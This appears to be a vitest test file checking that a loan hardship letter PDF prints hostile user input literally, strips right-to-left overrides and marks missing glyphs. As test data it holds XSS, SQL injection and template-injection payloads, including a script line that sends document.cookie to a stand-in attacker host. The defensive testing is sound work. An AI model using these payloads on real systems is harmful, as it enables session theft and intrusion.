/**
 * The letter prints the user's text as text (issue 7): markup typed into a name, an address or
 * the hardship, and a right-to-left override, come out of the PDF as the characters typed.
 * The same letter data feeds the HTML preview, where React escapes it (tests/browser/resilience.spec.ts).
 */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { analyze } from '@/lib/analyze';
import { letterFromJson, type Letter } from '@/lib/letter';
import type { Report } from '@/lib/report/types';
import { renderPdf, renderPdfReporting, squeeze } from '../pdf/render-pdf';
import { HOSTILE_DIR } from './hostile-files';

const json = {
  ...(JSON.parse(readFileSync(`${HOSTILE_DIR}hardship-injection.json`, 'utf8')) as Record<string, unknown>),
  lender: { name: '<script>alert("x")</script>', kind: 'licensed', contractNo: "1'; DROP TABLE loans; --" },
  borrower: { name: '\u202Egnp.exe\u202C 王', address: '"><svg onload=alert(1)>' },
};

/** The English letter of a case that must analyse and make a letter. */
function englishLetter(raw: Record<string, unknown>): { readonly letter: Letter; readonly report: Report } {
  const analysed = analyze(raw);
  if (!analysed.ok) throw new Error(JSON.stringify(analysed.errors));
  const made = letterFromJson(raw, analysed.report, { language: 'en' });
  if (!made.ok) throw new Error(made.message.en);
  return { letter: made.letter, report: analysed.report };
}

describe('hostile text in the letter PDF', () => {
  it('markup and a bidi override are printed as the characters typed', async () => {
    const made = englishLetter(json);
    const pdf = await renderPdf(made.letter, 'hostile-text');
    for (const text of ['<script>alert("x")</script>', "1'; DROP TABLE loans; --", '"><svg onload=alert(1)>', "</p><script>fetch('https://evil.example/?'+document.cookie)</script>${7*7}{{constructor.constructor('alert(1)')()}}"]) {
      // Whole: a token longer than a line wraps instead of being cut off at the page edge.
      expect(pdf.flat).toContain(squeeze(text));
    }
    // The override is dropped from the letter (lib/letter/printable.ts): the name reads in the order
    // typed, and an unterminated override cannot reverse the rest of a sentence.
    expect(pdf.flat).toContain('gnp.exe王');
    expect(made.letter.fileName).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
  });

  it('an unterminated override does not reverse the sentence around the name', async () => {
    // An adversarial review: "\u202E王" left the rest of the opening sentence printed backwards.
    const open = { ...json, borrower: { name: '\u202E王五' } };
    const made = englishLetter(open);
    expect(JSON.stringify(made.letter)).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    const pdf = await renderPdf(made.letter, 'open-override');
    expect(pdf.flat).toContain(squeeze('I, 王五,'));
  });

  it('characters the font lacks are printed as □ and named, never drawn as garbage', async () => {
    // Noto Sans SC has no emoji and no Arabic: "محمد" was drawn from Helvetica as "=/E-E". 堃 and 喆 are in
    // the font (a rare file), so they print.
    const odd = { ...json, borrower: { name: '堃喆😀 محمد' } };
    const made = englishLetter(odd);
    const told: string[][] = [];
    const pdf = await renderPdfReporting(made.letter, 'missing-glyphs', (chars) => told.push(chars));
    expect(told).toEqual([['😀', 'م', 'ح', 'د']]);
    expect(pdf.flat).toContain(squeeze('堃喆□ □□□□'));
    expect(pdf.flat).not.toContain('=/E-E');
  });

  it('a web address longer than a line is printed in full, with no hyphen added', async () => {
    const url = `https://example.com/${'abcdefghij'.repeat(15)}/END`;
    const withUrl = { ...json, letter: { hardship: url } };
    const made = englishLetter(withUrl);
    const pdf = await renderPdf(made.letter, 'long-url');
    expect(pdf.flat).toContain(url);
  });
});
